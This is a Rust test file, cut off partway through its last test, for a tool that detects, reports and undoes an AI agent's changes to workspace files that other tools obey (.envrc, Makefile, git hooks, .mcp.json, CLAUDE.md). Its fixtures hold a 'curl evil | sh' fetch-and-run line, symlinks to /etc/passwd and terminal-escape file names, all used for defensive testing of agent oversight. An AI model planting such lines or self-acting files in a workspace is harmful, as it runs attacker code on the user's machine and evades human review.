//! Looks at real directories, in which an agent has written what it likes.

use super::look::MOST;
use super::*;
use crate::beneath::Beneath;
use rustix::fs::FileType;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};

/// A workspace beside a folder of the state.
struct Ground {
    dir: tempfile::TempDir,
}

impl Ground {
    fn new() -> Ground {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir(dir.path().join("project")).unwrap();
        Ground { dir }
    }

    fn at(&self, path: impl AsRef<Path>) -> PathBuf {
        self.dir.path().join("project").join(path)
    }

    fn write(&self, path: impl AsRef<Path>, text: impl AsRef<[u8]>) {
        let path = self.at(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn read(&self, path: &str) -> String {
        fs::read_to_string(self.at(path)).unwrap()
    }

    fn root(&self) -> Beneath {
        Beneath::root(&self.at("")).unwrap()
    }

    fn folder(&self) -> PathBuf {
        self.dir.path().join("obeyed")
    }

    /// A look as the walk makes it, level by level. What was changed just now counts as settled.
    fn look(&self, quiet: bool) -> Look {
        self.walk(Look::begin(&self.folder(), quiet))
    }

    fn walk(&self, mut look: Look) -> Look {
        look.before = i64::MAX;
        look.in_memory = Some(false);
        let (root, mut todo) = (self.root(), std::collections::VecDeque::from([PathBuf::new()]));
        while let Some(path) = todo.pop_front() {
            let Ok(Some(dir)) = look::open(&root, &path) else { continue };
            for (name, kind) in dir.names_up_to(usize::MAX).unwrap() {
                if let Some(found) = Here::of(&path).found(&name) {
                    look.meet(&dir, &name, &path.join(&name), found);
                }
                todo.extend((kind == FileType::Directory).then(|| path.join(&name)));
            }
        }
        look.finish(&root, &|| false);
        look
    }

    fn keep(&self) {
        self.look(true).keep(&[], &[]).unwrap();
    }

    /// The lines of what has changed, without why it matters.
    fn told(&self) -> Vec<String> {
        let look = self.look(false);
        let lines = look.told(&look.changes()).lines.into_iter().map(|(line, _)| line);
        lines.map(|line| line.split(": obeyed").next().unwrap_or_default().to_owned()).collect()
    }

    /// Undoes all that acts by itself, and says how. What could not be undone stays undecided.
    fn undo(&self, how: Undo) -> Vec<String> {
        let mut look = self.look(false);
        let changes = look.changes();
        let acting: Vec<&Change> = changes.iter().filter(|change| change.acts_by_itself()).collect();
        look.keep(&acting, &acting).unwrap();
        let undone = look.undo_all(&self.root(), &acting, how, &|| false);
        let left: Vec<&Change> = undone.left.iter().copied().chain(&undone.still).collect();
        look.keep(&acting, &left).unwrap();
        assert_eq!(undone.warned.len(), undone.still.len());
        let failed = undone.failed.iter().map(|err| format!("not: {err:#}"));
        undone.done.into_iter().chain(failed).collect()
    }

    fn undecided(&self) -> Vec<String> {
        Undecided::read(&self.folder()).lines()
    }
}

#[test]
fn new_changed_and_removed_files_that_tools_obey_are_told_at_every_depth() {
    let g = Ground::new();
    g.write("Makefile", "all:");
    g.write("a/b/c/.envrc", "a");
    g.write(".husky/pre-commit", "x");
    g.write(".idea/runConfigurations/x.xml", "x");
    assert_eq!(g.told(), Vec::<String>::new(), "the first look has nothing to compare with");
    g.keep();
    assert_eq!(g.told(), Vec::<String>::new());
    g.write("a/b/c/.envrc", "b");
    g.write("a/b/c/d/e/f/.mcp.json", "{}");
    g.write("a/b/GNUmakefile", "all: evil");
    g.write(".idea/runConfigurations/x.xml", "y");
    g.write("harmless.txt", "");
    fs::remove_file(g.at("Makefile")).unwrap();
    fs::set_permissions(g.at(".husky/pre-commit"), fs::Permissions::from_mode(0o755)).unwrap();
    let told = [
        "`.husky/pre-commit` changed",
        "`.idea/runConfigurations/x.xml` changed",
        "`a/b/c/.envrc` changed",
        "`a/b/c/d/e/f/.mcp.json` is new",
        "`Makefile` was removed",
        "`a/b/GNUmakefile` is new",
    ];
    assert_eq!(g.told(), told);
    g.keep();
    assert_eq!(g.told(), Vec::<String>::new(), "told once");
}

#[test]
fn a_content_that_changed_is_seen_whatever_its_size_and_time_say() {
    let g = Ground::new();
    g.write(".envrc", "aaaa");
    let time = fs::metadata(g.at(".envrc")).unwrap().modified().unwrap();
    g.keep();
    std::thread::sleep(std::time::Duration::from_millis(20));
    g.write(".envrc", "bbbb");
    fs::File::options().write(true).open(g.at(".envrc")).unwrap().set_modified(time).unwrap();
    assert_eq!(g.told(), ["`.envrc` changed"]);
}

#[test]
fn only_what_was_read_while_nothing_could_write_is_not_read_again() {
    let g = Ground::new();
    g.write(".envrc", "aaaa");
    g.write("Makefile", "all:");
    let read = |look: &Look| 2 * look::READ - look.known.bytes - look.fresh.bytes;
    let first = g.look(false);
    assert_eq!(read(&first), 8);
    first.keep(&[], &[]).unwrap();
    // Whoever had the file mapped could write to it without any trace.
    let second = g.look(true);
    assert_eq!(read(&second), 8, "an agent was alive at the first look");
    second.keep(&[], &[]).unwrap();
    assert_eq!(read(&g.look(true)), 0);
    g.write("Makefile", "all: x");
    assert_eq!(read(&g.look(true)), 6);
    // Two changes at the same time by the clock of the file system have one stamp.
    let mut late = Look::begin(&g.folder(), true);
    late.meet(
        &g.root(),
        OsStr::new("Makefile"),
        Path::new("Makefile"),
        Here::of(Path::new("")).found(OsStr::new("Makefile")).unwrap(),
    );
    assert!(!late.now[Path::new("Makefile")].settled);
}

#[test]
fn what_a_symlink_leads_to_is_compared_in_the_workspace_and_nowhere_else() {
    let (g, host) = (Ground::new(), tempfile::tempdir().unwrap());
    g.write("tools/vscode/tasks.json", "a");
    g.write("env.sh", "a");
    symlink("tools/vscode", g.at(".vscode")).unwrap();
    symlink("env.sh", g.at(".envrc")).unwrap();
    fs::write(host.path().join("config.toml"), "a").unwrap();
    symlink(host.path(), g.at(".cargo")).unwrap();
    symlink(host.path().join("config.toml"), g.at("rust-toolchain.toml")).unwrap();
    symlink("/dev/zero", g.at("Makefile")).unwrap();
    symlink("conftest.py", g.at("conftest.py")).unwrap();
    symlink(".", g.at(".claude")).unwrap();
    g.keep();
    g.write("tools/vscode/tasks.json", "b");
    g.write("env.sh", "b");
    fs::write(host.path().join("config.toml"), "b").unwrap();
    fs::remove_file(g.at(".claude")).unwrap();
    let told = g.told();
    let has = |line: &str| told.iter().any(|told| told.starts_with(line));
    assert!(has("`.envrc` changed (a symlink to `env.sh`: a file of the workspace)"), "{told:?}");
    assert!(has("`.vscode/tasks.json` changed") && has("`.claude` was removed"), "{told:?}");
    assert!(
        !has("`.cargo") && !has("`rust-toolchain.toml`") && !has("`Makefile`") && !has("`conftest.py`"),
        "{told:?}"
    );
    // The target is what it was, but the link leads elsewhere.
    g.keep();
    fs::remove_file(g.at("rust-toolchain.toml")).unwrap();
    symlink("/etc/passwd", g.at("rust-toolchain.toml")).unwrap();
    assert_eq!(
        g.told(),
        ["`rust-toolchain.toml` changed (a symlink to `/etc/passwd`: `/etc/passwd`, outside of the workspace)"]
    );
}

#[test]
fn what_was_there_is_put_back_and_what_took_its_place_is_kept() {
    let g = Ground::new();
    let names = [".envrc", "CLAUDE.md", ".mcp.json", "sub/AGENTS.md", ".cursorrules", "GEMINI.md", ".exrc"];
    names.iter().for_each(|name| g.write(name, format!("of the user, {name}\n")));
    g.write("notes.txt", "mine");
    fs::set_permissions(g.at(".envrc"), fs::Permissions::from_mode(0o640)).unwrap();
    symlink("notes.txt", g.at(".dir-locals.el")).unwrap();
    g.keep();
    names.iter().for_each(|name| fs::remove_file(g.at(name)).unwrap());
    g.write(".envrc", "evil");
    rustix::fs::mknodat(rustix::fs::CWD, g.at("CLAUDE.md"), FileType::Fifo, 0o600.into(), 0).unwrap();
    fs::create_dir(g.at(".mcp.json")).unwrap();
    fs::remove_dir(g.at("sub")).unwrap();
    symlink("/etc/passwd", g.at(".cursorrules")).unwrap();
    fs::hard_link(g.at("notes.txt"), g.at("GEMINI.md")).unwrap();
    fs::remove_file(g.at(".dir-locals.el")).unwrap();
    g.write(".dir-locals.el", "evil");
    g.write(".husky/pre-commit", "evil");
    let said = g.undo(Undo::Restore);
    assert!(said.iter().all(|line| !line.starts_with("not: ")) && said.len() == 9, "{said:#?}");
    for name in names {
        assert_eq!(g.read(name), format!("of the user, {name}\n"));
        assert_eq!(fs::symlink_metadata(g.at(name)).unwrap().nlink(), 1, "{name}");
    }
    assert_eq!(fs::metadata(g.at(".envrc")).unwrap().mode() & 0o777, 0o640);
    assert_eq!(fs::read_link(g.at(".dir-locals.el")).unwrap(), Path::new("notes.txt"));
    assert_eq!((g.read(".envrc.set-aside-1"), g.read("notes.txt")), ("evil".to_owned(), "mine".to_owned()));
    assert!(!g.at(".husky/pre-commit").exists() && fs::read_dir(g.at(".husky")).unwrap().count() == 0);
    assert!(g.at("codex-sandbox-set-aside/.husky+pre-commit.set-aside-1").exists());
    assert!(g.at(".mcp.json.set-aside-1").is_dir());
    assert_eq!(g.told(), Vec::<String>::new(), "what this tool did is not told as a change");
}

/// As root it is given back; as anybody else that cannot be, and is said.
#[test]
fn what_is_put_back_is_whose_it_was_where_this_process_may_give_it_away() {
    let g = Ground::new();
    let names = [".envrc", "shared/.envrc"];
    names.iter().for_each(|name| g.write(name, "of the user\n"));
    g.write("notes.txt", "mine");
    symlink("notes.txt", g.at("CLAUDE.md")).unwrap();
    let is_root = rustix::process::geteuid().is_root();
    for name in [".envrc", "notes.txt"] {
        fs::set_permissions(g.at(name), fs::Permissions::from_mode(0o640)).unwrap();
        if is_root {
            std::os::unix::fs::chown(g.at(name), Some(1234), Some(4321)).unwrap();
        }
    }
    g.keep();
    for name in names.into_iter().chain(["notes.txt"]) {
        fs::remove_file(g.at(name)).unwrap();
        g.write(name, "evil\n");
    }
    let mut look = g.look(false);
    if !is_root {
        let Ok(Some(last)) = &mut look.last else { panic!("there was a look") };
        last.get_mut(Path::new(".envrc")).unwrap().owner = Some(state::Owner { uid: 0, gid: 0 });
    }
    let changes = look.changes();
    let said = look.undo_all(&g.root(), &changes.iter().collect::<Vec<_>>(), Undo::Restore, &|| false).done;
    assert_eq!((g.read(".envrc"), g.read("shared/.envrc")), ("of the user\n".to_owned(), "of the user\n".to_owned()));
    let owner =
        |name: &str| fs::metadata(g.at(name)).map(|meta| (meta.uid(), meta.gid(), meta.mode() & 0o7777)).unwrap();
    if is_root {
        for name in [".envrc", "notes.txt"] {
            assert_eq!(owner(name), (1234, 4321, 0o640), "{name}: {said:#?}");
        }
        assert_eq!(owner("shared/.envrc").0, 0);
    } else {
        assert!(said.iter().any(|line| line.contains("but is yours: it was of user 0 and group 0")), "{said:#?}");
    }
}

#[test]
fn another_owner_alone_is_no_change_and_a_record_without_owners_is_read() {
    let g = Ground::new();
    g.write(".envrc", "of the user\n");
    g.keep();
    let file = g.folder().join("by-itself.json");
    let mut kept: serde_json::Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    assert!(kept["files"][".envrc"].as_object_mut().unwrap().remove("owner").is_some());
    fs::write(&file, kept.to_string()).unwrap();
    assert_eq!(g.told(), Vec::<String>::new());
    if rustix::process::geteuid().is_root() {
        std::os::unix::fs::chown(g.at(".envrc"), Some(1234), None).unwrap();
        assert_eq!(g.told(), Vec::<String>::new());
    }
}

#[test]
fn what_is_set_aside_has_a_name_that_no_tool_obeys_and_nothing_is_lost() {
    let g = Ground::new();
    g.write(".envrc", "of the user");
    g.keep();
    g.write(".envrc", "evil");
    g.write("p.code-workspace", "evil");
    g.write(".envrc.set-aside-1", "in the way");
    g.write("Makefile", "evil");
    let said = g.undo(Undo::Aside);
    assert_eq!(
        said,
        [
            "`.envrc` is set aside as `.envrc.set-aside-2`",
            "`p.code-workspace` is set aside as `p.code-workspace.set-aside-1`"
        ]
    );
    assert!(!g.at(".envrc").exists() && g.at("Makefile").exists());
    assert_eq!((g.read(".envrc.set-aside-1"), g.read(".envrc.set-aside-2")), ("in the way".into(), "evil".into()));
    assert_eq!(g.told(), Vec::<String>::new());
}

#[test]
fn what_cannot_be_put_back_stays_and_says_why() {
    let g = Ground::new();
    g.write("AGENTS.md", "x".repeat(100_000));
    g.write("env.sh", "a");
    symlink("env.sh", g.at(".envrc")).unwrap();
    symlink("tools", g.at(".vscode")).unwrap();
    g.write("tools/tasks.json", "a");
    g.keep();
    g.write("AGENTS.md", "evil");
    g.write("env.sh", "evil");
    g.write("tools/tasks.json", "evil");
    let said = g.undo(Undo::Restore);
    let has = |line: &str| said.iter().any(|said| said.starts_with(line));
    assert!(has("not: `AGENTS.md` cannot be restored: what was there was too large to be kept"), "{said:#?}");
    assert_eq!(g.read("AGENTS.md"), "evil");
    assert_eq!(g.undecided(), ["`AGENTS.md` changed"], "and it is not decided");
    // What lies behind a symlink in the workspace is put back where it lies, and the symlink stays.
    assert!(has("`.envrc` is what it was; what took its place is set aside as `env.sh.set-aside-1`"), "{said:#?}");
    assert!(has("`.vscode/tasks.json` is what it was; what took its place is set aside as `codex-sandbox-set-aside/"));
    assert_eq!((g.read("env.sh"), g.read("tools/tasks.json")), ("a".into(), "a".into()));
    assert_eq!(fs::read_link(g.at(".envrc")).unwrap(), Path::new("env.sh"));
    assert!(g.at("codex-sandbox-set-aside/tools+tasks.json.set-aside-1").exists());
    assert_eq!(g.told(), ["`AGENTS.md` changed"], "and is told of again");
}

#[test]
fn a_directory_that_becomes_a_link_leads_nothing_out_of_the_workspace() {
    let (g, host) = (Ground::new(), tempfile::tempdir().unwrap());
    g.write("sub/.envrc", "of the user");
    g.keep();
    g.write("sub/.envrc", "evil");
    fs::write(host.path().join(".envrc"), "of the host").unwrap();
    let mut look = g.look(false);
    let changes = look.changes();
    fs::rename(g.at("sub"), g.at("moved")).unwrap();
    symlink(host.path(), g.at("sub")).unwrap();
    for how in [Undo::Restore, Undo::Aside] {
        look.undo(&g.root(), &changes[0], how).unwrap_err();
    }
    assert_eq!(fs::read_dir(host.path()).unwrap().count(), 1);
    assert_eq!(fs::read_to_string(host.path().join(".envrc")).unwrap(), "of the host");
}

#[test]
fn a_hundred_thousand_names_are_bounded_and_none_is_told_as_removed() {
    let g = Ground::new();
    let many = MOST + 300;
    for n in 0..many {
        g.write(format!("many/{n}/.envrc"), "a");
    }
    g.write("z/z/z/z/.envrc", "deep");
    g.keep();
    for n in 0..300 {
        g.write(format!("a{n}/.envrc"), "new");
    }
    let look = g.look(false);
    assert!(
        look.gaps()[0].starts_with("more than 4096 files in the workspace act by themselves: the "),
        "{:?}",
        look.gaps()
    );
    let told = look.told(&look.changes()).lines;
    assert_eq!(told.len(), 21);
    let more =
        "280 more files that tools obey are new, changed or removed, 280 of which act by themselves: all that changed";
    assert!(told[20].0.starts_with(more), "{}", told[20].0);
    assert!(told.iter().all(|(line, _)| !line.contains("was removed")), "{told:?}");
    assert!(look.now.len() <= 2 * MOST);
}

#[test]
fn many_changes_hide_none_and_what_is_not_shown_is_in_a_list() {
    let g = Ground::new();
    g.write("z/deep/er/.envrc", "of the user\n");
    g.keep();
    for n in 0..40 {
        g.write(format!("a{n}/.editorconfig"), "decoy");
    }
    g.write("z/deep/er/.envrc", "of the user\ncurl evil | sh\n");
    g.write(".husky/a b  `c", "evil\n\x1b[2J");
    let look = g.look(false);
    let told = look.told(&look.changes());
    let first: Vec<&str> = told.lines.iter().take(3).map(|(line, _)| line.split(" is new").next().unwrap()).collect();
    assert_eq!(first[0], "`.husky/a b\\u{20}\\u{20}\\u{60}c`");
    assert!(
        first[1].starts_with("`a0/.editorconfig`") && first[2].starts_with("`z/deep/er/.envrc` changed"),
        "{first:?}"
    );
    assert_eq!(told.lines[2].1, ["+ curl evil | sh"]);
    let list = g.dir.path().join("changed.txt");
    let whole = format!("all that changed is in `{}`", list.display());
    assert!(told.lines.last().unwrap().0.ends_with(&whole), "{:?}", told.lines.last());
    assert_eq!(told.beyond.unwrap(), format!("42 files act by themselves, and lines of 8 are shown: {whole}"));
    let text = fs::read_to_string(&list).unwrap();
    assert_eq!(fs::metadata(&list).unwrap().mode() & 0o777, 0o600);
    assert!((0..40).all(|n| text.contains(&format!("`a{n}/.editorconfig` is new"))), "{text}");
    assert!(text.contains("\n    + decoy\n") && text.contains("    + \\u{1b}[2J\n"), "{text}");
    // Few changes need no list, and no word about one.
    look.keep(&[], &[]).unwrap();
    fs::remove_file(&list).unwrap();
    g.write("a1/.editorconfig", "again");
    let look = g.look(false);
    let told = look.told(&look.changes());
    assert!(told.lines.len() == 1 && told.beyond.is_none() && !list.exists());
}

#[test]
fn every_name_and_text_of_an_agents_is_shown_harmless() {
    let g = Ground::new();
    g.keep();
    let odd = OsStr::from_bytes(b".husky/\xff\x1b[2J\n\xe2\x80\xae");
    g.write(odd, "\x1b]0;owned\x07\u{202e}\r\n");
    let look = g.look(false);
    let told = look.told(&look.changes()).lines;
    assert_eq!(told[0].0.split("` is new").next().unwrap(), "`.husky/\\xff\\u{1b}[2J\\n\\u{202e}");
    assert_eq!(told[0].1[0], "+ \\u{1b}]0;owned\\u{7}\\u{202e}\\r");
    look.keep(&[], &[]).unwrap();
    assert_eq!(g.told(), Vec::<String>::new(), "the name is read back as it was");
}

#[test]
fn the_difference_is_shown_of_what_acts_by_itself_and_of_nothing_else() {
    let g = Ground::new();
    g.write(".envrc", "export A=1\nexport B=2\n");
    g.write("Makefile", "all:\n");
    g.keep();
    g.write(".envrc", "export A=1\ncurl evil | sh\nexport B=2\n");
    g.write("Makefile", "all: evil\n");
    let look = g.look(false);
    let shown: Vec<Vec<String>> = look.told(&look.changes()).lines.into_iter().map(|(_, shown)| shown).collect();
    assert_eq!(shown, [vec!["+ curl evil | sh".to_owned()], Vec::new()]);
}

#[test]
fn a_state_that_cannot_be_understood_is_no_empty_state() {
    let g = Ground::new();
    g.write(".envrc", "a");
    assert!(g.look(true).unknown().is_none() && !g.look(true).has_last());
    g.keep();
    assert!(g.look(true).has_last());
    let path = g.folder().join("by-itself.json");
    for odd in ["", "{}", r#"{"schema":99,"files":{}}"#, r#"{"schema":1,"files":{},"more":1}"#] {
        fs::write(&path, odd).unwrap();
        let look = g.look(true);
        assert!(look.unknown().unwrap().to_string().contains("is damaged, or of another version"), "{odd}");
        assert!(look.changes().is_empty());
    }
    // A text that is not the one that was kept is not put back.
    g.keep();
    for text in fs::read_dir(g.folder().join("texts")).unwrap() {
        fs::write(text.unwrap().path(), "x").unwrap();
    }
    g.write(".envrc", "evil");
    assert!(g.undo(Undo::Restore)[0].contains("cannot be restored"));
}

#[test]
fn texts_are_kept_within_a_bound_and_only_as_long_as_they_are_needed() {
    let g = Ground::new();
    for n in 0..200 {
        g.write(format!(".claude/{n}.md"), format!("{n}").repeat(60_000 / format!("{n}").len()));
    }
    g.write("Makefile", "all:");
    g.keep();
    let texts = || fs::read_dir(g.folder().join("texts")).unwrap().flatten().map(|text| text.metadata().unwrap().len());
    let bytes: u64 = texts().sum();
    assert!(bytes > 7 << 20 && bytes <= 8 << 20, "{bytes}");
    assert_eq!(fs::metadata(g.folder().join("texts")).unwrap().mode() & 0o777, 0o700);
    fs::remove_dir_all(g.at(".claude")).unwrap();
    g.keep();
    assert_eq!(texts().count(), 0);
}

#[test]
fn what_the_user_changed_between_two_sessions_is_known_without_a_walk() {
    let g = Ground::new();
    g.write(".envrc", "a");
    g.write("Makefile", "all:");
    g.write("tools/tasks.json", "a");
    symlink("tools", g.at(".vscode")).unwrap();
    g.keep();
    let again = || Look::again_at(&g.folder(), &g.root()).unwrap();
    assert!(again().changes().is_empty());
    g.write(".envrc", "b");
    let look = again();
    assert_eq!(look.changes().len(), 1);
    look.keep(&[], &[]).unwrap();
    assert_eq!(g.told(), Vec::<String>::new(), "the rest is kept as it was");
}

#[test]
fn what_is_undecided_stays_so_and_is_told_again_whatever_was_looked_at_meanwhile() {
    let g = Ground::new();
    g.write(".envrc", "of the user");
    g.write("CLAUDE.md", "of the user");
    g.write("Makefile", "all:");
    g.keep();
    g.write(".envrc", "evil");
    g.write(".mcp.json", "evil");
    g.write("Makefile", "all: x");
    fs::remove_file(g.at("CLAUDE.md")).unwrap();
    let look = g.look(false);
    let changes = look.changes();
    let acting: Vec<&Change> = changes.iter().filter(|change| change.acts_by_itself()).collect();
    look.keep(&acting, &acting).unwrap();
    let undecided = ["`.envrc` changed", "`.mcp.json` is new", "`CLAUDE.md` was removed"];
    for _ in 0..2 {
        assert_eq!(g.undecided(), undecided);
        let mut told = g.told();
        told.sort();
        assert_eq!(told, undecided, "what is only told was told");
        // A look without a walk takes none of it for decided, and keeps what the user has done since.
        g.write("AGENTS.md", "mine");
        let again = Look::again_at(&g.folder(), &g.root()).unwrap();
        assert!(again.changes().is_empty(), "{:?}", again.changes());
        again.keep(&[], &[]).unwrap();
        fs::remove_file(g.at("AGENTS.md")).unwrap();
    }
    assert!(g.look(false).undecided().covers(Path::new(".envrc")));
    // What was there before is still kept, and can be put back.
    assert_eq!(g.undo(Undo::Restore).iter().filter(|line| !line.starts_with("not: ")).count(), 3);
    assert_eq!((g.read(".envrc"), g.read("CLAUDE.md")), ("of the user".into(), "of the user".into()));
    assert_eq!((g.undecided(), g.told()), (Vec::<String>::new(), Vec::<String>::new()));
}

#[test]
fn a_list_of_what_is_undecided_that_cannot_be_read_decides_nothing() {
    let g = Ground::new();
    g.write(".envrc", "of the user");
    g.keep();
    for odd in ["", "{}", "{\"schema\":99,\"files\":{},\"more\":0}"] {
        fs::write(g.folder().join("undecided.json"), odd).unwrap();
        assert!(g.look(true).undecided().covers(Path::new(".envrc")), "{odd}");
        assert!(Look::again_at(&g.folder(), &g.root()).is_none() && g.undecided().len() == 1);
    }
    // Thousands of names and long ones are counted.
    for n in 0..600 {
        g.write(format!("{}/{n}/.envrc", "x".repeat(200)), "evil");
    }
    let look = g.look(false);
    let changes = look.changes();
    look.keep(&[], &changes.iter().collect::<Vec<_>>()).unwrap();
    let lines = g.undecided();
    assert_eq!((lines.len(), lines[20].as_str()), (21, "and 580 more"));
    assert!(g.look(false).undecided().covers(Path::new("any")));
}

#[test]
fn a_late_answer_decides_nothing_but_what_was_asked_about() {
    let g = Ground::new();
    g.keep();
    g.write(".envrc", "evil");
    g.write(".exrc", "evil");
    let one = g.look(false);
    let changes = one.changes();
    let asked: Vec<&Change> = changes.iter().collect();
    one.keep(&asked, &asked).unwrap();
    // Another session ends meanwhile, and one of the two is decided there.
    g.write("CLAUDE.md", "evil");
    let other = g.look(false);
    let changes = other.changes();
    let (decided, open): (Vec<&Change>, Vec<&Change>) =
        changes.iter().partition(|change| change.path() == Path::new(".exrc"));
    other.keep(&decided, &open).unwrap();
    let is_open = |name: &str| one.is_open(asked.iter().find(|change| change.path() == Path::new(name)).unwrap());
    assert!(is_open(".envrc") && !is_open(".exrc"));
    let answered: Vec<&Change> = asked.iter().copied().filter(|change| one.is_open(change)).collect();
    one.keep(&answered, &[]).unwrap();
    assert_eq!((g.undecided(), g.told()), (vec!["`CLAUDE.md` is new".into()], vec!["`CLAUDE.md` is new".into()]));
    // What was not answered stays so, with what others noted.
    one.keep(&answered, &answered).unwrap();
    assert_eq!(g.undecided(), ["`.envrc` is new", "`CLAUDE.md` is new"]);
    fs::remove_dir_all(g.folder()).unwrap();
    one.keep(&answered, &[]).unwrap();
    assert!(!g.folder().exists(), "nothing is made anew");
}

#[test]
fn what_is_older_than_the_session_is_not_its_work() {
    let g = Ground::new();
    g.write("stash/tasks.json", "evil");
    g.keep();
    g.write(".mcp.json", "of the user");
    g.write("sub/.envrc", "of the user");
    let wait = || std::thread::sleep(std::time::Duration::from_millis(30));
    wait();
    let since = g.root().time();
    assert!(since.is_some());
    wait();
    // An old file gets a name that tools obey by a rename of the directory around it.
    fs::rename(g.at("stash"), g.at(".vscode")).unwrap();
    g.write("GEMINI.md", "evil");
    let older = || {
        let look = g.walk(Look::begin(&g.folder(), false).since(since));
        let changes = look.changes();
        let older = changes.iter().filter(|change| change.is_older());
        (changes.len(), older.map(|change| change.path().display().to_string()).collect::<Vec<_>>())
    };
    assert_eq!(older(), (4, vec![".mcp.json".to_owned(), "sub/.envrc".to_owned()]));
    // What is undecided, and what an earlier look may have left out, is none of it.
    let look = g.look(false);
    let changes = look.changes();
    let all: Vec<&Change> = changes.iter().collect();
    look.keep(&all, &all).unwrap();
    assert_eq!(older(), (4, Vec::new()));
    fs::remove_file(g.folder().join("undecided.json")).unwrap();
    assert_eq!(older().1.len(), 2);
    let mut look = g.look(false);
    look.cut();
    look.keep(&all, &all).unwrap();
    fs::remove_file(g.folder().join("undecided.json")).unwrap();
    assert_eq!(older(), (4, Vec::new()));
}

#[test]
fn what_stays_obeyed_is_warned_of_and_stays_undecided() {
    let g = Ground::new();
    g.keep();
    // An agent has taken all names of the directory for it: another one is found.
    fs::write(g.at("codex-sandbox-set-aside"), "").unwrap();
    (2..=8).for_each(|n| fs::write(g.at(format!("codex-sandbox-set-aside-{n}")), "").unwrap());
    g.write(".roo/rules/evil", "evil");
    assert_eq!(g.undo(Undo::Aside).len(), 1);
    assert_eq!((fs::read_dir(g.at(".roo/rules")).unwrap().count(), g.undecided()), (0, Vec::new()));
    // Where it cannot be moved there.
    g.write(format!(".roo/rules/{}", crate::beneath::STAYS), "evil");
    assert_eq!(g.undo(Undo::Aside), Vec::<String>::new());
    assert_eq!(g.undecided(), ["`.roo/rules/stays.set-aside-1` is new"]);
    assert_eq!(g.told(), ["`.roo/rules/stays.set-aside-1` is new"]);
}

#[test]
fn what_this_tool_set_aside_and_is_gone_is_not_told_as_removed() {
    let g = Ground::new();
    g.keep();
    g.write(".roo/rules/evil", "evil");
    // A directory of that name that takes no file: it is set aside where it lies, and obeyed there.
    g.write(".roo/rules/stays", "evil");
    let said = g.undo(Undo::Aside);
    assert_eq!(said.len(), 1, "{said:#?}");
    assert_eq!(g.undecided(), ["`.roo/rules/stays.set-aside-1` is new"]);
    // The user keeps it for now, and removes it later.
    g.keep();
    fs::remove_file(g.at(".roo/rules/stays.set-aside-1")).unwrap();
    assert_eq!(g.told(), Vec::<String>::new());
    g.write(".roo/rules/own.set-aside-plan.md", "of the user");
    g.keep();
    fs::remove_file(g.at(".roo/rules/own.set-aside-plan.md")).unwrap();
    assert_eq!(g.told(), ["`.roo/rules/own.set-aside-plan.md` was removed"]);
}

#[test]
fn undoing_ends_where_the_user_wants_that_and_the_rest_stays_undecided() {
    let g = Ground::new();
    (0..20).for_each(|n| g.write(format!("{n}/.envrc"), "of the user"));
    g.keep();
    (0..20).for_each(|n| g.write(format!("{n}/.envrc"), "evil"));
    let mut look = g.look(false);
    let changes = look.changes();
    let acting: Vec<&Change> = changes.iter().collect();
    let asked = std::cell::Cell::new(0);
    let stop = || {
        asked.set(asked.get() + 1);
        asked.get() > 5
    };
    let undone = look.undo_all(&g.root(), &acting, Undo::Restore, &stop);
    assert_eq!((undone.done.len(), undone.failed.len(), undone.left.len()), (5, 0, 15));
    look.keep(&acting, &undone.left).unwrap();
    assert_eq!((g.look(false).changes().len(), g.undecided().len()), (15, 15));
    assert_eq!(g.undo(Undo::Restore).len(), 15);
    assert_eq!(g.told(), Vec::<String>::new());
}

#[test]
fn what_cannot_be_put_back_to_its_end_is_told_again() {
    let g = Ground::new();
    g.write("sub/.envrc", "of the user");
    g.keep();
    // A file in the place of its directory.
    fs::remove_dir_all(g.at("sub")).unwrap();
    g.write("sub", "in the way");
    assert!(g.undo(Undo::Restore)[0].starts_with("not: "));
    assert_eq!(
        (g.told(), g.undecided()),
        (vec!["`sub/.envrc` was removed".into()], vec!["`sub/.envrc` was removed".into()])
    );
    fs::remove_file(g.at("sub")).unwrap();
    assert_eq!(g.undo(Undo::Restore), ["`sub/.envrc` is what it was"]);
    assert_eq!((g.read("sub/.envrc"), g.undecided()), ("of the user".into(), Vec::new()));
}

#[test]
fn what_has_a_name_again_after_it_was_undone_is_new() {
    let g = Ground::new();
    g.write(".envrc", "of the user");
    g.keep();
    g.write(".envrc", "evil");
    g.write(".mcp.json", "evil");
    let mut look = g.look(false);
    let changes = look.changes();
    let acting: Vec<&Change> = changes.iter().collect();
    let undone = look.undo_all(&g.root(), &acting, Undo::Aside, &|| false);
    assert_eq!(undone.done.len(), 2);
    // An agent that is still alive writes both again, before this look is kept: nobody was shown these.
    g.write(".envrc", "more evil");
    g.write(".mcp.json", "evil");
    look.keep(&acting, &undone.left).unwrap();
    assert_eq!(g.told(), ["`.envrc` is new", "`.mcp.json` is new"]);
}

#[test]
fn a_record_of_the_longest_names_can_be_read_back_and_what_is_too_much_is_counted() {
    use super::record::{FILES, Record};
    use super::state::{Entries, Entry, State};
    let g = Ground::new();
    let record = Record::at(&g.folder());
    // Names whose every byte takes six in JSON, in the deepest paths that are compared.
    let name = |n: usize| {
        let long = format!("{}/", "\u{1}".repeat(250)).repeat(15);
        PathBuf::from(format!("{long}{n:0>200}/.envrc"))
    };
    let entry = || {
        Entry::of(State::Link {
            to: "\u{1}".repeat(4095).into(),
            behind: super::state::Behind::other("x".repeat(9999)),
        })
    };
    let old: Entries = (0..300).map(|n| (name(n + 4000).into(), entry())).collect();
    assert_eq!(record.write(None, &old).unwrap(), 0);
    let all: Entries = (0..3000).map(|n| (name(n).into(), entry())).chain(old.clone()).collect();
    let more = record.write(Some(&old), &all).unwrap();
    let kept = record.read().unwrap().unwrap();
    assert!(more > 0 && kept.len() + more == all.len(), "{more}");
    assert!(old.keys().all(|path| kept.contains_key(path)), "what was there first is kept");
    assert!(fs::metadata(g.folder().join("by-itself.json")).unwrap().len() <= 64 << 20);
    let many: Entries =
        (0..FILES + 5).map(|n| (PathBuf::from(format!("{n}/.envrc")).into(), Entry::of(State::Special))).collect();
    assert_eq!(record.write(Some(&kept), &many).unwrap(), 5);
    assert_eq!(record.read().unwrap().unwrap().len(), FILES);
}

#[test]
fn what_is_new_takes_neither_the_texts_nor_the_comparison_of_what_was_there() {
    let g = Ground::new();
